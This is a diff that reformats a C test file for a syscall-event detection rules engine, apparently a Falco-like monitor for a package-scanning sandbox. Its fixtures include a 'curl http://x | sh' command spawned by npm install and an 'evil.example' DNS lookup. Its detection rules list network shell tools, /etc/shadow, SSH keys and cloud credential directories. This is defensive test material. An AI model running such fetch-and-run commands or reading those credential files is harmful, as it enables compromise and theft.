-			fprintf(stderr, "  %s: got '%s' (rc %d), want '%s'\n", cs[i].field, buf, rc, cs[i].want);
+			fprintf(stderr, "  %s: got '%s' (rc %d), want '%s'\n", cs[i].field, buf, rc,
+				cs[i].want);
 		CHECK(ok);
 	}
 }
@@ -693,50 +776,110 @@ static void test_render(void)
 {
 	struct sf_event f = file_ev(), c = connect_ev(), s = accept_ev();
 	static const struct render_case fc[] = {
-		{"evt.type", "openat"}, {"evt.dir", "<"}, {"evt.res", "SUCCESS"}, {"evt.rawres", "3"},
-		{"evt.failed", "false"}, {"evt.time", "22:13:20.123456789"}, {"evt.time.s", "22:13:20"},
-		{"evt.time.iso8601", "2023-11-14T22:13:20.123456789Z"}, {"evt.datetime", "2023-11-14 22:13:20.123456789"},
-		{"evt.rawtime", "1700000000123456789"}, {"evt.rawtime.s", "1700000000"},
-		{"evt.rawtime.ns", "123456789"}, {"evt.is_open_read", "true"}, {"evt.is_open_write", "false"},
-		{"evt.is_open_exec", "false"}, {"evt.arg.flags", "O_RDONLY|O_CLOEXEC"}, {"evt.arg[0]", "3"},
-		{"evt.arg[name]", "/etc/passwd"}, {"evt.arg.nope", "<NA>"}, {"evt.arg[9]", "<NA>"},
-		{"evt.args", "fd=3 dirfd=AT_FDCWD name=/etc/passwd flags=O_RDONLY|O_CLOEXEC"},
-		{"evt.source", "syscall"}, {"proc.name", "sh"}, {"proc.exe", "sh"}, {"proc.exepath", "/bin/sh"},
-		{"proc.cmdline", "sh -c curl http://x | sh"}, {"proc.args", "-c curl http://x | sh"},
-		{"proc.pid", "300"}, {"proc.ppid", "200"}, {"proc.vpid", "3"}, {"proc.pname", "npm"},
-		{"proc.pexe", "npm"}, {"proc.pexepath", "/usr/bin/node"}, {"proc.pcmdline", "npm install"},
-		{"proc.aname[0]", "sh"}, {"proc.aname[1]", "npm"}, {"proc.aname[2]", "bash"}, {"proc.aname[3]", "<NA>"},
-		{"proc.aname", "npm bash"}, {"proc.apid[2]", "100"}, {"proc.apid", "200 100"},
-		{"proc.aexepath[1]", "/usr/bin/node"}, {"proc.cwd", "/work/pkg/"}, {"proc.is_exe_upper_layer", "false"},
-		{"proc.is_exe_writable", "false"}, {"user.uid", "1000"}, {"user.name", "scanner"},
-		{"user.loginuid", "-1"}, {"group.gid", "1000"}, {"group.name", "scanner"}, {"fd.name", "/etc/passwd"},
-		{"fd.directory", "/etc"}, {"fd.filename", "passwd"}, {"fd.typechar", "f"}, {"fd.type", "file"},
-		{"fd.sip", "<NA>"}, {"fd.cport", "<NA>"}, {"fd.l4proto", "<NA>"}, {"fd.is_server", "<NA>"},
-		{"fd.sockfamily", "<NA>"}, {"fd.ip", "<NA>"}, {"container.id", "c0ffee123456"},
-		{"container.name", "sf-job-1"}, {"container.image", "scanfarm/sandbox"},
-		{"container.image.repository", "scanfarm/sandbox"}, {"sf.dns.name", "<NA>"},
+	    {"evt.type", "openat"},
+	    {"evt.dir", "<"},
+	    {"evt.res", "SUCCESS"},
+	    {"evt.rawres", "3"},
+	    {"evt.failed", "false"},
+	    {"evt.time", "22:13:20.123456789"},
+	    {"evt.time.s", "22:13:20"},
+	    {"evt.time.iso8601", "2023-11-14T22:13:20.123456789Z"},
+	    {"evt.datetime", "2023-11-14 22:13:20.123456789"},
+	    {"evt.rawtime", "1700000000123456789"},
+	    {"evt.rawtime.s", "1700000000"},
+	    {"evt.rawtime.ns", "123456789"},
+	    {"evt.is_open_read", "true"},
+	    {"evt.is_open_write", "false"},
+	    {"evt.is_open_exec", "false"},
+	    {"evt.arg.flags", "O_RDONLY|O_CLOEXEC"},
+	    {"evt.arg[0]", "3"},
+	    {"evt.arg[name]", "/etc/passwd"},
+	    {"evt.arg.nope", "<NA>"},
+	    {"evt.arg[9]", "<NA>"},
+	    {"evt.args", "fd=3 dirfd=AT_FDCWD name=/etc/passwd flags=O_RDONLY|O_CLOEXEC"},
+	    {"evt.source", "syscall"},
+	    {"proc.name", "sh"},
+	    {"proc.exe", "sh"},
+	    {"proc.exepath", "/bin/sh"},
+	    {"proc.cmdline", "sh -c curl http://x | sh"},
+	    {"proc.args", "-c curl http://x | sh"},
+	    {"proc.pid", "300"},
+	    {"proc.ppid", "200"},
+	    {"proc.vpid", "3"},
+	    {"proc.pname", "npm"},
+	    {"proc.pexe", "npm"},
+	    {"proc.pexepath", "/usr/bin/node"},
+	    {"proc.pcmdline", "npm install"},
+	    {"proc.aname[0]", "sh"},
+	    {"proc.aname[1]", "npm"},
+	    {"proc.aname[2]", "bash"},
+	    {"proc.aname[3]", "<NA>"},
+	    {"proc.aname", "npm bash"},
+	    {"proc.apid[2]", "100"},
+	    {"proc.apid", "200 100"},
+	    {"proc.aexepath[1]", "/usr/bin/node"},
+	    {"proc.cwd", "/work/pkg/"},
+	    {"proc.is_exe_upper_layer", "false"},
+	    {"proc.is_exe_writable", "false"},
+	    {"user.uid", "1000"},
+	    {"user.name", "scanner"},
+	    {"user.loginuid", "-1"},
+	    {"group.gid", "1000"},
+	    {"group.name", "scanner"},
+	    {"fd.name", "/etc/passwd"},
+	    {"fd.directory", "/etc"},
+	    {"fd.filename", "passwd"},
+	    {"fd.typechar", "f"},
+	    {"fd.type", "file"},
+	    {"fd.sip", "<NA>"},
+	    {"fd.cport", "<NA>"},
+	    {"fd.l4proto", "<NA>"},
+	    {"fd.is_server", "<NA>"},
+	    {"fd.sockfamily", "<NA>"},
+	    {"fd.ip", "<NA>"},
+	    {"container.id", "c0ffee123456"},
+	    {"container.name", "sf-job-1"},
+	    {"container.image", "scanfarm/sandbox"},
+	    {"container.image.repository", "scanfarm/sandbox"},
+	    {"sf.dns.name", "<NA>"},
 	};
 	check_render(&f, fc, sizeof(fc) / sizeof(fc[0]));
 	static const struct render_case cc[] = {
-		{"evt.res", "EINPROGRESS"}, {"evt.rawres", "-115"}, {"evt.failed", "true"},
-		{"fd.name", "172.17.0.2:40000->198.51.100.7:443"}, {"fd.directory", "<NA>"}, {"fd.filename", "<NA>"},
-		{"fd.typechar", "4"}, {"fd.type", "ipv4"}, {"fd.sip", "198.51.100.7"}, {"fd.sport", "443"},
-		{"fd.cip", "172.17.0.2"}, {"fd.cport", "40000"}, {"fd.rip", "198.51.100.7"}, {"fd.rport", "443"},
-		{"fd.lip", "172.17.0.2"}, {"fd.lport", "40000"}, {"fd.ip", "172.17.0.2 198.51.100.7"},
-		{"fd.port", "40000 443"}, {"fd.l4proto", "tcp"}, {"fd.is_server", "false"}, {"fd.sockfamily", "ip"},
-		{"fd.snet", "198.51.100.7"},
+	    {"evt.res", "EINPROGRESS"},
+	    {"evt.rawres", "-115"},
+	    {"evt.failed", "true"},
+	    {"fd.name", "172.17.0.2:40000->198.51.100.7:443"},
+	    {"fd.directory", "<NA>"},
+	    {"fd.filename", "<NA>"},
+	    {"fd.typechar", "4"},
+	    {"fd.type", "ipv4"},
+	    {"fd.sip", "198.51.100.7"},
+	    {"fd.sport", "443"},
+	    {"fd.cip", "172.17.0.2"},
+	    {"fd.cport", "40000"},
+	    {"fd.rip", "198.51.100.7"},
+	    {"fd.rport", "443"},
+	    {"fd.lip", "172.17.0.2"},
+	    {"fd.lport", "40000"},
+	    {"fd.ip", "172.17.0.2 198.51.100.7"},
+	    {"fd.port", "40000 443"},
+	    {"fd.l4proto", "tcp"},
+	    {"fd.is_server", "false"},
+	    {"fd.sockfamily", "ip"},
+	    {"fd.snet", "198.51.100.7"},
 	};
 	check_render(&c, cc, sizeof(cc) / sizeof(cc[0]));
 	static const struct render_case sc[] = {
-		{"fd.rip", "10.1.2.3"}, {"fd.rport", "51000"}, {"fd.lip", "127.0.0.1"}, {"fd.lport", "8080"},
-		{"fd.is_server", "true"},
+	    {"fd.rip", "10.1.2.3"}, {"fd.rport", "51000"},    {"fd.lip", "127.0.0.1"},
+	    {"fd.lport", "8080"},   {"fd.is_server", "true"},
 	};
 	check_render(&s, sc, sizeof(sc) / sizeof(sc[0]));
 	struct sf_event d = c;
 	d.type = "sendto";
 	d.dns_name = "evil.example";
 	endpoint(&d.server, "2001:db8::53", 53);
-	static const struct render_case dc[] = {{"sf.dns.name", "evil.example"}, {"fd.sip", "2001:db8::53"}};
+	static const struct render_case dc[] = {{"sf.dns.name", "evil.example"},
+						{"fd.sip", "2001:db8::53"}};
 	check_render(&d, dc, sizeof(dc) / sizeof(dc[0]));
 	char buf[32];
 	CHECK_EQ(sf_rules_field_render("proc.nope", &f, buf, sizeof(buf)), -ENOENT);
@@ -756,7 +899,8 @@ static void test_cidr(void)
 	EXPECT(NULL, &c, 1, "fd.snet = 198.51.100.0/24");
 	EXPECT(NULL, &c, 0, "fd.snet in (\"10.0.0.0/8\", \"192.168.0.0/16\")");
 	EXPECT(NULL, &c, 1, "fd.cnet in (\"10.0.0.0/8\", \"172.16.0.0/12\")");
-	EXPECT(NULL, &c, 1, "not fd.snet in (\"10.0.0.0/8\", \"172.16.0.0/12\", \"192.168.0.0/16\")");
+	EXPECT(NULL, &c, 1,
+	       "not fd.snet in (\"10.0.0.0/8\", \"172.16.0.0/12\", \"192.168.0.0/16\")");
 	EXPECT(NULL, &s, 1, "fd.net = \"127.0.0.0/8\""); /* either end */
 	EXPECT(NULL, &s, 1, "fd.net = 10.0.0.0/8");
 	EXPECT(NULL, &s, 0, "fd.net != 10.0.0.0/8"); /* != must hold for both ends */
@@ -791,21 +935,27 @@ static void test_index(void)
 {
 	char err[1024];
 	struct sf_ruleset *rs;
-	write_file("idx.yaml",
-		   "- macro: opens\n  condition: evt.type in (open, openat)\n"
-		   "- rule: open rule\n  desc: d\n  condition: opens and fd.name startswith /etc\n  output: o\n"
-		   "  priority: info\n"
-		   "- rule: not connect\n  desc: d\n  condition: not evt.type = connect and proc.name = sh\n"
-		   "  output: o\n  priority: info\n"
-		   "- rule: mixed not\n  desc: d\n  condition: not (evt.type = openat and proc.name = nobody)\n"
-		   "  output: o\n  priority: info\n  warn_evttypes: false\n"
-		   "- rule: connect or exec\n  desc: d\n  condition: (evt.type = connect and fd.sport = 443) or "
-		   "(evt.type = execve)\n  output: o\n  priority: info\n"
-		   "- rule: all types\n  desc: d\n  condition: proc.name = sh\n  output: o\n  priority: info\n"
-		   "- rule: never\n  desc: d\n  condition: evt.type = open and evt.type = connect\n  output: o\n"
-		   "  priority: info\n"
-		   "- rule: not in\n  desc: d\n  condition: evt.type != openat and evt.type != connect\n  output: o\n"
-		   "  priority: info\n");
+	write_file("idx.yaml", "- macro: opens\n  condition: evt.type in (open, openat)\n"
+			       "- rule: open rule\n  desc: d\n  condition: opens and fd.name "
+			       "startswith /etc\n  output: o\n"
+			       "  priority: info\n"
+			       "- rule: not connect\n  desc: d\n  condition: not evt.type = "
+			       "connect and proc.name = sh\n"
+			       "  output: o\n  priority: info\n"
+			       "- rule: mixed not\n  desc: d\n  condition: not (evt.type = openat "
+			       "and proc.name = nobody)\n"
+			       "  output: o\n  priority: info\n  warn_evttypes: false\n"
+			       "- rule: connect or exec\n  desc: d\n  condition: (evt.type = "
+			       "connect and fd.sport = 443) or "
+			       "(evt.type = execve)\n  output: o\n  priority: info\n"
+			       "- rule: all types\n  desc: d\n  condition: proc.name = sh\n  "
+			       "output: o\n  priority: info\n"
+			       "- rule: never\n  desc: d\n  condition: evt.type = open and "
+			       "evt.type = connect\n  output: o\n"
+			       "  priority: info\n"
+			       "- rule: not in\n  desc: d\n  condition: evt.type != openat and "
+			       "evt.type != connect\n  output: o\n"
+			       "  priority: info\n");
 	int rc = load(&rs, err, sizeof(err), "idx.yaml", NULL, NULL);
 	CHECK_EQ(rc, 0);
 	if (rc) {
@@ -827,12 +977,14 @@ static void test_index(void)
 	CHECK_EQ(ctx.checks, 3);
 	/* a type no rule names: the rules that can match any type */
 	sf_rules_ctx_init(&ctx);
-	CHECK_EQ(sf_rules_eval(rs, &ctx, &o, NULL, NULL), 4); /* not connect, mixed not, all types, not in */
+	CHECK_EQ(sf_rules_eval(rs, &ctx, &o, NULL, NULL),
+		 4); /* not connect, mixed not, all types, not in */
 	CHECK_EQ(ctx.checks, 4);
 	struct sf_event nt = f;
 	nt.type = NULL;
 	sf_rules_ctx_init(&ctx);
-	CHECK_EQ(sf_rules_eval(rs, &ctx, &nt, NULL, NULL), 3); /* evt.type checks are false when it is missing */
+	CHECK_EQ(sf_rules_eval(rs, &ctx, &nt, NULL, NULL),
+		 3); /* evt.type checks are false when it is missing */
 	CHECK(sf_rule_all_types(sf_rules_find(rs, "all types")));
 	CHECK(!sf_rule_all_types(sf_rules_find(rs, "open rule")));
 	CHECK(strstr(sf_rules_warnings(rs), "'all types' has no evt.type restriction") != NULL);
@@ -846,86 +998,130 @@ static void test_errors(void)
 	const char *rule_tail = "  output: o\n  priority: info\n";
 	char text[2048];
 	EXPECT_ERROR("e01.yaml", "- rule: a\n  desc: d\n  condition: [unclosed\n", 4, "YAML error");
-	EXPECT_ERROR("e02.yaml", "- rule: a\n  desc: d\n  condition: evt.type = x\n bad: indent\n", 4, "YAML error");
-	snprintf(text, sizeof(text), "# comment\n- rule: a\n  desc: d\n  condition: proc.nmae = x\n%s", rule_tail);
+	EXPECT_ERROR("e02.yaml", "- rule: a\n  desc: d\n  condition: evt.type = x\n bad: indent\n",
+		     4, "YAML error");
+	snprintf(text, sizeof(text),
+		 "# comment\n- rule: a\n  desc: d\n  condition: proc.nmae = x\n%s", rule_tail);
 	EXPECT_ERROR("e03.yaml", text, 4, "unknown field 'proc.nmae' at column 1");
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: (proc.name = x and (fd.name = y)\n%s",
+	snprintf(text, sizeof(text),
+		 "- rule: a\n  desc: d\n  condition: (proc.name = x and (fd.name = y)\n%s",
 		 rule_tail);
 	EXPECT_ERROR("e04.yaml", text, 3, "expected ')'");
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name = x)\n%s", rule_tail);
+	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name = x)\n%s",
+		 rule_tail);
 	EXPECT_ERROR("e05.yaml", text, 3, "unexpected token");
-	snprintf(text, sizeof(text), "- macro: m\n  condition: evt.type = x\n\n- rule: a\n  desc: d\n"
-				     "  condition: m and no_such_macro\n%s",
+	snprintf(text, sizeof(text),
+		 "- macro: m\n  condition: evt.type = x\n\n- rule: a\n  desc: d\n"
+		 "  condition: m and no_such_macro\n%s",
 		 rule_tail);
 	EXPECT_ERROR("e06.yaml", text, 6, "undefined macro 'no_such_macro' at column 7");
-	EXPECT_ERROR("e07.yaml", "- rule: a\n  desc: d\n  output: o\n  priority: info\n", 1, "missing 'condition'");
-	EXPECT_ERROR("e08.yaml", "- rule: a\n  condition: evt.type = x\n  desc: d\n  output: o\n  priority: loud\n",
-		     5, "unknown priority 'loud'");
-	EXPECT_ERROR("e09.yaml", "- list: l\n  items: []\n- rulez: a\n  desc: d\n", 3, "unknown top-level item 'rulez'");
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.pid contains 3\n%s", rule_tail);
-	EXPECT_ERROR("e10.yaml", text, 3, "operator 'contains' is not supported for numeric field 'proc.pid'");
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: evt.is_open_read startswith t\n%s", rule_tail);
+	EXPECT_ERROR("e07.yaml", "- rule: a\n  desc: d\n  output: o\n  priority: info\n", 1,
+		     "missing 'condition'");
+	EXPECT_ERROR(
+	    "e08.yaml",
+	    "- rule: a\n  condition: evt.type = x\n  desc: d\n  output: o\n  priority: loud\n", 5,
+	    "unknown priority 'loud'");
+	EXPECT_ERROR("e09.yaml", "- list: l\n  items: []\n- rulez: a\n  desc: d\n", 3,
+		     "unknown top-level item 'rulez'");
+	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.pid contains 3\n%s",
+		 rule_tail);
+	EXPECT_ERROR("e10.yaml", text, 3,
+		     "operator 'contains' is not supported for numeric field 'proc.pid'");
+	snprintf(text, sizeof(text),
+		 "- rule: a\n  desc: d\n  condition: evt.is_open_read startswith t\n%s", rule_tail);
 	EXPECT_ERROR("e11.yaml", text, 3, "operator 'startswith' is not supported for boolean");
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name bcontains 6162\n%s", rule_tail);
+	snprintf(text, sizeof(text),
+		 "- rule: a\n  desc: d\n  condition: proc.name bcontains 6162\n%s", rule_tail);
 	EXPECT_ERROR("e12.yaml", text, 3, "operator 'bcontains' is not supported");
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name in no_such_list\n%s", rule_tail);
+	snprintf(text, sizeof(text),
+		 "- rule: a\n  desc: d\n  condition: proc.name in no_such_list\n%s", rule_tail);
 	EXPECT_ERROR("e13.yaml", text, 3, "undefined list 'no_such_list'");
-	EXPECT_ERROR("e14.yaml", "- rule: a\n  desc: d\n  condition: x\n  output: o\n  priority: info\n"
-				 "- rule: b\n  condition: and y\n  append: true\n",
+	EXPECT_ERROR("e14.yaml",
+		     "- rule: a\n  desc: d\n  condition: x\n  output: o\n  priority: info\n"
+		     "- rule: b\n  condition: and y\n  append: true\n",
 		     6, "append to a rule that is not defined");
-	EXPECT_ERROR("e15.yaml", "- macro: a\n  condition: x\n  append: true\n", 1, "append to a macro that is not defined");
-	EXPECT_ERROR("e16.yaml", "- list: a\n  items: [x]\n  append: true\n", 1, "append to a list that is not defined");
+	EXPECT_ERROR("e15.yaml", "- macro: a\n  condition: x\n  append: true\n", 1,
+		     "append to a macro that is not defined");
+	EXPECT_ERROR("e16.yaml", "- list: a\n  items: [x]\n  append: true\n", 1,
+		     "append to a list that is not defined");
 	/* literal block: the line of the token inside the block */
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: |\n    evt.type = openat\n"
-				     "    and proc.name = sh\n    and fd.nam = x\n%s",
+	snprintf(text, sizeof(text),
+		 "- rule: a\n  desc: d\n  condition: |\n    evt.type = openat\n"
+		 "    and proc.name = sh\n    and fd.nam = x\n%s",
 		 rule_tail);
 	EXPECT_ERROR("e17.yaml", text, 6, "unknown field 'fd.nam' at column 5");
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: fd.sport = http\n%s", rule_tail);
+	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: fd.sport = http\n%s",
+		 rule_tail);
 	EXPECT_ERROR("e18.yaml", text, 3, "'http' is not a valid numeric value for fd.sport");
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: fd.snet = 10.0.0.0/33\n%s", rule_tail);
+	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: fd.snet = 10.0.0.0/33\n%s",
+		 rule_tail);
 	EXPECT_ERROR("e19.yaml", text, 3, "is not a valid network");
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: fd.sip = 10.0.0.0/8\n%s", rule_tail);
+	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: fd.sip = 10.0.0.0/8\n%s",
+		 rule_tail);
 	EXPECT_ERROR("e20.yaml", text, 3, "is not a valid IP address");
 	/* a macro's own error is reported at the macro, even when unused */
-	EXPECT_ERROR("e21.yaml", "- macro: ok\n  condition: evt.type = x\n- macro: broken\n  condition: (evt.type = x\n",
-		     4, "macro 'broken': expected ')'");
+	EXPECT_ERROR(
+	    "e21.yaml",
+	    "- macro: ok\n  condition: evt.type = x\n- macro: broken\n  condition: (evt.type = x\n",
+	    4, "macro 'broken': expected ')'");
 	/* an unknown field in a macro only matters to the rules that use it */
-	snprintf(text, sizeof(text), "- macro: m\n  condition: proc.bogus = 1\n- rule: a\n  desc: d\n  condition: m\n%s",
-		 rule_tail);
+	snprintf(
+	    text, sizeof(text),
+	    "- macro: m\n  condition: proc.bogus = 1\n- rule: a\n  desc: d\n  condition: m\n%s",
+	    rule_tail);
 	EXPECT_ERROR("e22.yaml", text, 2, "macro 'm': unknown field 'proc.bogus'");
-	EXPECT_ERROR("e23.yaml", "- macro: a\n  condition: b\n- macro: b\n  condition: a\n", 1, "refers to itself");
-	EXPECT_ERROR("e24.yaml", "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
-				 "  exceptions:\n    - name: e\n      fields: [proc.nope]\n      values: [[x]]\n",
-		     7, "'proc.nope' is not a supported filter field");
-	EXPECT_ERROR("e25.yaml", "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
-				 "  exceptions:\n    - name: e\n      fields: [proc.name, fd.name]\n      values: [[x]]\n",
-		     7, "each value must be a list as long as fields");
-	EXPECT_ERROR("e26.yaml", "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
-				 "  enabeld: false\n",
-		     6, "unknown key 'enabeld'");
+	EXPECT_ERROR("e23.yaml", "- macro: a\n  condition: b\n- macro: b\n  condition: a\n", 1,
+		     "refers to itself");
+	EXPECT_ERROR(
+	    "e24.yaml",
+	    "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
+	    "  exceptions:\n    - name: e\n      fields: [proc.nope]\n      values: [[x]]\n",
+	    7, "'proc.nope' is not a supported filter field");
+	EXPECT_ERROR(
+	    "e25.yaml",
+	    "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
+	    "  exceptions:\n    - name: e\n      fields: [proc.name, fd.name]\n      values: "
+	    "[[x]]\n",
+	    7, "each value must be a list as long as fields");
+	EXPECT_ERROR(
+	    "e26.yaml",
+	    "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
+	    "  enabeld: false\n",
+	    6, "unknown key 'enabeld'");
 	EXPECT_ERROR("e27.yaml", "rule: a\n", 1, "must be a YAML sequence");
-	EXPECT_ERROR("e28.yaml", "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
-				 "  exceptions:\n    - name: e\n      fields: [proc.name]\n      comps: [like]\n",
-		     7, "'like' is not a supported comparison operator");
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: tolower(proc.name) = sh\n%s", rule_tail);
+	EXPECT_ERROR(
+	    "e28.yaml",
+	    "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
+	    "  exceptions:\n    - name: e\n      fields: [proc.name]\n      comps: [like]\n",
+	    7, "'like' is not a supported comparison operator");
+	snprintf(text, sizeof(text),
+		 "- rule: a\n  desc: d\n  condition: tolower(proc.name) = sh\n%s", rule_tail);
 	EXPECT_ERROR("e29.yaml", text, 3, "field transformers are not supported");
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name = \"unterminated\n%s", rule_tail);
+	snprintf(text, sizeof(text),
+		 "- rule: a\n  desc: d\n  condition: proc.name = \"unterminated\n%s", rule_tail);
 	EXPECT_ERROR("e30.yaml", text, 3, "unterminated string");
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name =\n%s", rule_tail);
+	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name =\n%s",
+		 rule_tail);
 	EXPECT_ERROR("e31.yaml", text, 3, "expected a value");
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name = a andx proc.name = b\n%s", rule_tail);
+	snprintf(text, sizeof(text),
+		 "- rule: a\n  desc: d\n  condition: proc.name = a andx proc.name = b\n%s",
+		 rule_tail);
 	EXPECT_ERROR("e32.yaml", text, 3, "unexpected token");
 	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name\n%s", rule_tail);
 	EXPECT_ERROR("e33.yaml", text, 3, "expected an operator");
-	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name < t\n%s", rule_tail);
+	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name < t\n%s",
+		 rule_tail);
 	EXPECT_ERROR("e37.yaml", text, 3, "expected a number at column 13");
-	EXPECT_ERROR("e34.yaml", "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
-				 "  source: k8s_audit\n- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n"
-				 "  priority: info\n  source: syscall\n",
-		     7, "re-defined with a different source");
+	EXPECT_ERROR(
+	    "e34.yaml",
+	    "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
+	    "  source: k8s_audit\n- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n"
+	    "  priority: info\n  source: syscall\n",
+	    7, "re-defined with a different source");
 	EXPECT_ERROR("e35.yaml", "- rule: a\n  enabled: true\n", 1, "no rule by that name exists");
 	/* invalid UTF-8 is a YAML reader error: located by offset */
-	EXPECT_ERROR("e36.yaml", "- list: a\n  items: [x]\n- list: b\n  items: [\xff]\n", 4, "YAML error");
+	EXPECT_ERROR("e36.yaml", "- list: a\n  items: [x]\n- list: b\n  items: [\xff]\n", 4,
+		     "YAML error");
 
 	/* the second file's error names the second file */
 	char err[1024];
@@ -948,9 +1144,10 @@ static void test_dir_digest(void)
 	struct sf_ruleset *rs, *rs2;
 	snprintf(sub, sizeof(sub), "%s/rules.d", dir);
 	mkdir(sub, 0755);
-	write_file("rules.d/20-local.yml", "- rule: r\n  condition: and proc.name = sh\n  append: true\n");
-	write_file("rules.d/10-base.yaml",
-		   "- rule: r\n  desc: d\n  condition: evt.type = openat\n  output: o\n  priority: info\n");
+	write_file("rules.d/20-local.yml",
+		   "- rule: r\n  condition: and proc.name = sh\n  append: true\n");
+	write_file("rules.d/10-base.yaml", "- rule: r\n  desc: d\n  condition: evt.type = openat\n "
+					   " output: o\n  priority: info\n");
 	write_file("rules.d/README.md", "not rules");
 	const char *paths[] = {sub};
 	int rc = sf_rules_load(&rs, paths, 1, err, sizeof(err));
@@ -959,14 +1156,16 @@ static void test_dir_digest(void)
 		fprintf(stderr, "%s\n", err);
 		return;
 	}
-	CHECK(strcmp(sf_rule_condition(sf_rules_find(rs, "r")), "evt.type = openat and proc.name = sh") == 0);
+	CHECK(strcmp(sf_rule_condition(sf_rules_find(rs, "r")),
+		     "evt.type = openat and proc.name = sh") == 0);
 	CHECK_EQ(strlen(sf_rules_digest(rs)), SF_SHA256_HEX);
 	snprintf(d1, sizeof(d1), "%s", sf_rules_digest(rs));
 	rc = sf_rules_load(&rs2, paths, 1, err, sizeof(err));
 	CHECK(rc == 0 && strcmp(sf_rules_digest(rs2), d1) == 0);
 	if (!rc)
 		sf_rules_free(rs2);
-	write_file("rules.d/20-local.yml", "- rule: r\n  condition: and proc.name = bash\n  append: true\n");
+	write_file("rules.d/20-local.yml",
+		   "- rule: r\n  condition: and proc.name = bash\n  append: true\n");
 	rc = sf_rules_load(&rs2, paths, 1, err, sizeof(err));
 	CHECK(rc == 0 && strcmp(sf_rules_digest(rs2), d1) != 0);
 	if (!rc)
@@ -986,9 +1185,11 @@ static void test_dir_digest(void)
 	CHECK_EQ(sf_rules_load_buffer(&b1, "empty.yaml", "", 0, err, sizeof(err)), 0);
 	CHECK_EQ(sf_rules_count(b1), 0);
 	sf_rules_free(b1);
-	const char *multi = "- list: l\n  items: [sh]\n---\n- rule: r\n  desc: d\n  condition: proc.name in (l)\n"
-			    "  output: o\n  priority: info\n";
-	CHECK_EQ(sf_rules_load_buffer(&b1, "multi.yaml", multi, strlen(multi), err, sizeof(err)), 0);
+	const char *multi =
+	    "- list: l\n  items: [sh]\n---\n- rule: r\n  desc: d\n  condition: proc.name in (l)\n"
+	    "  output: o\n  priority: info\n";
+	CHECK_EQ(sf_rules_load_buffer(&b1, "multi.yaml", multi, strlen(multi), err, sizeof(err)),
+		 0);
 	CHECK_EQ(sf_rules_count(b1), 1);
 	sf_rules_free(b1);
 	sf_rules_free(rs);
@@ -996,31 +1197,37 @@ static void test_dir_digest(void)
 
 /* A ruleset shaped like what scanfarm ships: many rules, lists, macros. */
 static const char *bench_rules =
-	"- list: shell_binaries\n  items: [ash, bash, csh, ksh, sh, tcsh, zsh, dash]\n"
-	"- list: net_tools\n  items: [curl, wget, nc, ncat, netcat, socat, ssh, scp]\n"
-	"- list: sensitive_files\n  items: [/etc/shadow, /etc/sudoers, /etc/pam.conf, /root/.ssh/id_rsa]\n"
-	"- list: cred_dirs\n  items: [/root/.ssh, /home, /root/.aws, /root/.npmrc]\n"
-	"- macro: spawned_process\n  condition: evt.type in (execve, execveat)\n"
-	"- macro: open_read\n  condition: evt.type in (open, openat, openat2) and evt.is_open_read = true\n"
-	"- macro: open_write\n  condition: evt.type in (open, openat, openat2) and evt.is_open_write = true\n"
-	"- macro: outbound\n  condition: evt.type = connect and fd.typechar in (4, 6) and not fd.snet in "
-	"(\"127.0.0.0/8\", \"10.0.0.0/8\")\n"
-	"- rule: shell\n  desc: d\n  condition: spawned_process and proc.name in (shell_binaries) and "
-	"proc.pname in (node, npm)\n  output: '%proc.cmdline'\n  priority: warning\n"
-	"- rule: nettool\n  desc: d\n  condition: spawned_process and proc.name in (net_tools)\n"
-	"  output: o\n  priority: warning\n"
-	"- rule: sensitive\n  desc: d\n  condition: open_read and fd.name in (sensitive_files)\n  output: o\n"
-	"  priority: error\n"
-	"- rule: creds\n  desc: d\n  condition: open_read and fd.name pmatch (cred_dirs)\n  output: o\n"
-	"  priority: error\n"
-	"- rule: write etc\n  desc: d\n  condition: open_write and fd.name startswith /etc\n  output: o\n"
-	"  priority: error\n"
-	"- rule: outbound\n  desc: d\n  condition: outbound and not proc.aname in (git)\n  output: o\n"
-	"  priority: notice\n"
-	"- rule: glob\n  desc: d\n  condition: open_write and fd.name glob '/tmp/*.sh'\n  output: o\n"
-	"  priority: notice\n"
-	"- rule: cmdline\n  desc: d\n  condition: spawned_process and proc.cmdline icontains base64\n"
-	"  output: o\n  priority: notice\n";
